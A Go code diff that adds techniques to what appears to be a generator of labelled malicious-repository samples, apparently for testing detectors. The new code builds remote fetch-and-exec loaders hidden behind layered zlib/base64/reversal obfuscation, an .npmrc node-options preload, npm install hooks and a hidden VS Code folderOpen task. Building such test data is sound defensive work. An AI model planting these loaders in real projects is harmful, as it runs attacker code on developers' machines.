@@ -209,7 +209,25 @@ func (g *gen) injectPython(t Technique) error {
 	var imports, block string
 	switch t {
 	case PythonExec:
-		switch g.rng.IntN(4) {
+		switch g.rng.IntN(5) {
+		case 4:
+			// pyobfuscate's wrapping, as InvisibleFerret ships: the
+			// code zlib-compressed, base64-encoded, reversed, and the
+			// result wrapped the same way again, layer after layer
+			g.variant = "reversed-base64-zlib-layers"
+			code := fmt.Sprintf("import requests\nexec(requests.get(%q, timeout=5).text)\n", u)
+			for range 2 + g.rng.IntN(4) {
+				var z bytes.Buffer
+				zw := zlib.NewWriter(&z)
+				zw.Write([]byte(code))
+				zw.Close()
+				enc := []byte(base64.StdEncoding.EncodeToString(z.Bytes()))
+				for i, j := 0, len(enc)-1; i < j; i, j = i+1, j-1 {
+					enc[i], enc[j] = enc[j], enc[i]
+				}
+				code = fmt.Sprintf("_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'%s'))", enc)
+			}
+			block = code + "\n"
 		case 3:
 			g.variant = "zlib-compile"
 			inner := fmt.Sprintf("import requests\nexec(requests.get(%q, timeout=5).text)\n", u)
@@ -295,4 +313,58 @@ func rot13(s string) string {
 		}
 	}
 	return string(b)
+}
+
+// injectNpmrc writes an .npmrc whose node-options preload a hidden
+// script into every node process npm starts (npm install, npm run dev).
+func (g *gen) injectNpmrc() error {
+	file := g.pick([]string{".cache/npm-init.js", "scripts/.config/preload.cjs", ".husky/_/env.js"})
+	g.variant = file
+	rc := "engine-strict=true\n" + fmt.Sprintf("node-options=--require ./%s\n", file)
+	if g.rng.IntN(2) == 0 {
+		rc = "save-exact=true\n" + fmt.Sprintf("node-options=\"--max-old-space-size=4096 -r ./%s\"\n", file)
+	}
+	g.repo[".npmrc"] = rc
+	g.repo[file] = g.payload(RemoteEval, false) + "\n"
+	g.mark(file, 1, OnInstall, true, "preloaded by .npmrc node-options")
+	g.mark(".npmrc", 2, OnInstall, false, "node-options --require")
+	return nil
+}
+
+// injectNodeEval puts a loader inline in a node -e command: an install
+// script of package.json, or a folderOpen task of type process.
+func (g *gen) injectNodeEval(l Location) error {
+	u := g.url()
+	code := fmt.Sprintf("fetch('%s').then((r) => r.text()).then((t) => eval(t)).catch(() => {})", u)
+	if g.rng.IntN(2) == 0 {
+		code = fmt.Sprintf("require('https').get('%s', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => { new Function('require', d)(require); }); })", strings.Replace(u, "http://", "https://", 1))
+	}
+	if l == VSCodeTasks {
+		g.variant = "task"
+		tasks := fmt.Sprintf(`{
+  "version": "2.0.0",
+  "tasks": [
+    {
+      "label": %q,
+      "type": "process",
+      "command": "node",
+      "args": ["-e", %q],
+      "presentation": { "reveal": "never", "echo": false },
+      "runOptions": { "runOn": "folderOpen" }
+    }
+  ]
+}
+`, g.pick([]string{"env", "eslint-check", "sync-settings"}), code)
+		g.repo[".vscode/tasks.json"] = tasks
+		g.mark(".vscode/tasks.json", lineOf(tasks, strings.Index(tasks, "\"args\"")), OnOpen, true, "node -e loader in a folderOpen task")
+		return nil
+	}
+	hook := g.pick([]string{"preinstall", "postinstall", "prepare"})
+	g.variant = hook
+	line, err := g.addScript(hook, "node -e \""+strings.ReplaceAll(code, `"`, `\"`)+"\"")
+	if err != nil {
+		return err
+	}
+	g.mark("package.json", line, OnInstall, true, hook+" runs a node -e loader")
+	return nil
 }
